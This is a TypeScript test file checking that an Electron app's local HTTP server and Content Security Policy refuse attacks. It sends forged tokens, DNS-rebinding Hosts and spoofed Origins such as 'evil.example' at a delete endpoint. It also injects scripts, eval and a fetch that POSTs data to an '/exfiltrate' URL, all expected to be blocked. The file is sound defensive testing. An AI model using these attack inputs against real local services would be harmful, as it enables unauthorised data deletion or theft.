import { request } from 'node:http';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHttpServer, type RunningServer } from '../../electron/transports/http-server';
import { CONTENT_SECURITY_POLICY } from '../../electron/transports/csp';
import { bookRowsHash } from '../helpers/book-rows';
import { tempBook } from '../helpers/temp-book';
import { launchApp, RENDERER_DIR, type App } from './harness';

type Reply = { status: number; headers: Record<string, string | string[] | undefined>; body: string };

/** A raw request, so Host and Origin are exactly what an attacker's page or a rebinding DNS would send. */
function call(server: RunningServer, options: { path: string; method?: string; headers?: Record<string, string>; body?: string; host?: string }): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = request(
      { host: options.host ?? '127.0.0.1', port: server.port, path: options.path, method: options.method ?? 'POST', headers: options.headers, agent: false },
      (res) => {
        let body = '';
        res.on('data', (c: Buffer) => (body += c.toString()));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      },
    );
    req.on('error', reject);
    req.end(options.body);
  });
}

describe('browser mode: the HTTP door', () => {
  let book: Awaited<ReturnType<typeof tempBook>>;
  let server: RunningServer;
  let good: Record<string, string>;
  const deleteAll = () => JSON.stringify({ ids: book.service.listDeals({}).map((d) => d.id) });

  beforeAll(async () => {
    book = await tempBook({ sample: true });
    server = await startHttpServer({ handlers: book.service, staticDir: RENDERER_DIR });
    good = { Host: `127.0.0.1:${server.port}`, 'Content-Type': 'application/json', Authorization: `Bearer ${server.token}` };
  });
  afterAll(async () => {
    await server.close();
    book.cleanup();
  });

  it('answers the app itself (the control for the refusals below)', async () => {
    const reply = await call(server, { path: '/api/bookInfo', headers: { ...good, Origin: `http://127.0.0.1:${server.port}` }, body: '{}' });
    expect(reply.status).toBe(200);
    expect(JSON.parse(reply.body)).toMatchObject({ ok: true, value: { path: book.path } });
    expect(server.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/\?token=/);
  });

  it('refuses no token, a wrong token, a foreign Host and a foreign Origin, leaving the book alone', async () => {
    const before = bookRowsHash(book.service);
    const refusals: [string, Record<string, string>, number][] = [
      ['no token', { Host: good.Host!, 'Content-Type': 'application/json' }, 401],
      ['an empty token', { ...good, Authorization: 'Bearer ' }, 401],
      ['a wrong token', { ...good, Authorization: `Bearer ${server.token.slice(0, -1)}${server.token.endsWith('A') ? 'B' : 'A'}` }, 401],
      ['a token as Basic auth', { ...good, Authorization: `Basic ${server.token}` }, 401],
      ['a rebinding Host', { ...good, Host: `evil.example:${server.port}` }, 403],
      ['a Host on another port', { ...good, Host: `127.0.0.1:${server.port + 1}` }, 403],
      ['a foreign Origin', { ...good, Origin: 'https://evil.example' }, 403],
      ['a null Origin', { ...good, Origin: 'null' }, 403],
      ['a lookalike Origin', { ...good, Origin: `http://127.0.0.1:${server.port}.evil.example` }, 403],
    ];
    for (const [what, headers, status] of refusals) {
      const reply = await call(server, { path: '/api/deleteDeals', headers, body: deleteAll() });
      expect(reply.status, what).toBe(status);
      expect(JSON.parse(reply.body), what).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    }
    // A foreign Host or Origin is refused for the page too, not only for the API.
    expect((await call(server, { path: '/', method: 'GET', headers: { Host: 'evil.example' } })).status).toBe(403);
    expect(bookRowsHash(book.service)).toBe(before);
  });

  it('sends no CORS headers and answers no preflight', async () => {
    const preflight = await call(server, {
      path: '/api/deleteDeals',
      method: 'OPTIONS',
      headers: { Host: good.Host!, Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST' },
    });
    expect(preflight.status).toBeGreaterThanOrEqual(400);
    const page = await call(server, { path: '/', method: 'GET', headers: { Host: good.Host! } });
    const api = await call(server, { path: '/api/listDeals', headers: good, body: '{}' });
    for (const reply of [preflight, page, api]) {
      expect(Object.keys(reply.headers).filter((h) => h.startsWith('access-control-'))).toEqual([]);
    }
    expect(page.headers['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
  });

  it('listens on loopback only', async () => {
    const others = Object.values(networkInterfaces())
      .flat()
      .filter((a) => a && a.family === 'IPv4' && !a.internal)
      .map((a) => a!.address);
    // Always at least one address to try: the machine's own, or one that is loopback-routed but not 127.0.0.1.
    for (const host of [...others, '127.0.0.2']) {
      await expect(call(server, { path: '/', method: 'GET', host, headers: { Host: good.Host! } }), host).rejects.toMatchObject({ code: 'ECONNREFUSED' });
    }
  });
});

describe('browser mode in Chromium: the CSP', () => {
  let app: App;
  beforeAll(async () => {
    app = await launchApp();
  });
  afterAll(async () => app?.close());

  it('blocks an injected inline script, an inline handler, eval and a foreign fetch', async () => {
    const { page } = app;
    await page.evaluate(() => {
      const w = window as unknown as { __violations: string[] };
      w.__violations = [];
      document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(e.violatedDirective));
    });
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true;';
      document.body.appendChild(script);
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__handlerRan = true');
      img.src = 'data:,not-an-image';
      document.body.appendChild(img);
      // In a later task: code run by the DevTools protocol itself is exempt from the eval check.
      const evalResult = await new Promise<string>((resolve) =>
        setTimeout(() => {
          try {
            (0, eval)('window.__evalRan = true');
            resolve('ran');
          } catch (e) {
            resolve((e as Error).name);
          }
        }, 0),
      );
      let fetchResult = 'fetched';
      try {
        await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'deals' });
      } catch (e) {
        fetchResult = (e as Error).name;
      }
      // Violation events are queued; wait for the three (or give up after 5 s and let the check below say which).
      const expected = ['script-src-elem', 'script-src-attr', 'connect-src'];
      const violations = w.__violations as string[];
      for (let waited = 0; waited < 5000 && !expected.every((d) => violations.includes(d)); waited += 20) {
        await new Promise((r) => setTimeout(r, 20));
      }
      return { inline: w.__inlineRan ?? false, handler: w.__handlerRan ?? false, evalRan: w.__evalRan ?? false, evalResult, fetchResult, violations: w.__violations };
    });
    expect(outcome.inline).toBe(false);
    expect(outcome.handler).toBe(false);
    expect(outcome.evalRan).toBe(false);
    expect(outcome.evalResult).toBe('EvalError');
    expect(outcome.fetchResult).toBe('TypeError');
    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'connect-src']));
  });
});
